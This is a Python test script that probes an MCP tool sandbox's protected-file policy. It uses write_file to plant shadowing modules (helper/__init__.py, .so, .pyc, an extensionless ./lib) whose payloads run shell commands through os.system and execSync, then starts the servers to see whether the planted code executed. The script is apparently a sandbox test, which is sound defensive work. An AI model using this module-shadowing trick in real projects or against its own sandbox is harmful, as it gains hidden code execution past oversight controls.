#!/usr/bin/env python3
"""Follower: a protected program's import resolves to an existing file (helper.py, lib.js), which is protected; a
call makes a file the runtime tries BEFORE it (Python: a package directory helper/__init__.py, an extension module
helper.so / helper.cpython-3XX-…so, a __pycache__ .pyc; Node: the extensionless ./lib, which require('./lib') takes
before lib.js). write_file only (wc.toml). Controls: rewriting helper.py and lib.js (refused)."""
import sys, os, subprocess, json, shutil, sysconfig
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
ws, home = "/tmp/atk40b/ws", "/tmp/atk40b/home"
for e in os.listdir(ws):
    p = f"{ws}/{e}"; shutil.rmtree(p) if os.path.isdir(p) and not os.path.islink(p) else os.remove(p)
shutil.rmtree(home, ignore_errors=True); os.makedirs(home)
os.makedirs(f"{ws}/py"); os.makedirs(f"{ws}/js")
open(f"{ws}/py/main.py", "w").write("import helper\nhelper.run()\n")
open(f"{ws}/py/helper.py", "w").write("def run(): pass\n")
open(f"{ws}/js/index.js", "w").write("require('./lib').run();\n")
open(f"{ws}/js/lib.js", "w").write("exports.run = () => {};\n")
json.dump({"mcpServers": {"p": {"command": "python3", "args": ["py/main.py"]}, "j": {"command": "node", "args": ["js/index.js"]}}}, open(f"{ws}/.mcp.json", "w"))
subprocess.run(f"chown -R 65534:65534 {ws}", shell=True, check=True)
suffix = sysconfig.get_config_var("EXT_SUFFIX")
s = Stdio(["/tmp/atk40b/mcpsandbox", "serve", "--policy", "/tmp/atk40b/wc.toml"], env={"HOME": home, "PATH": "/usr/bin:/bin"}, err="/tmp/atk40b/f5.log")
for p in ["py/helper.py", "js/lib.js", "py/helper/__init__.py", "py/helper.so", f"py/helper{suffix}", "py/__pycache__/helper.cpython-311.pyc", "js/lib"]:
    r = text(s.call("write_file", {"path": p, "content": "import os; os.system('id > /tmp/atk40b/PWNED-shadow')\n" if p.endswith("__init__.py") else "require('child_process').execSync('id > /tmp/atk40b/PWNED-shadow-js')\n" if p == "js/lib" else "x\n"})).strip().replace("\n", " | ")
    print(("APPLIED" if " change(s) applied" in r and "0 change(s) applied" not in r else "REFUSED") + f": {p}: {r[-110:]}")
s.close()
subprocess.run("rm -f /tmp/atk40b/PWNED-shadow*", shell=True)
print("--- the host starts both servers")
for argv in (["python3", "py/main.py"], ["node", "js/index.js"]):
    r = subprocess.run(argv, cwd=ws, timeout=20, capture_output=True, text=True); print(argv, "rc", r.returncode, r.stderr.strip()[-150:])
subprocess.run("for f in /tmp/atk40b/PWNED-shadow*; do echo \"$f: $(cat $f)\"; done", shell=True)
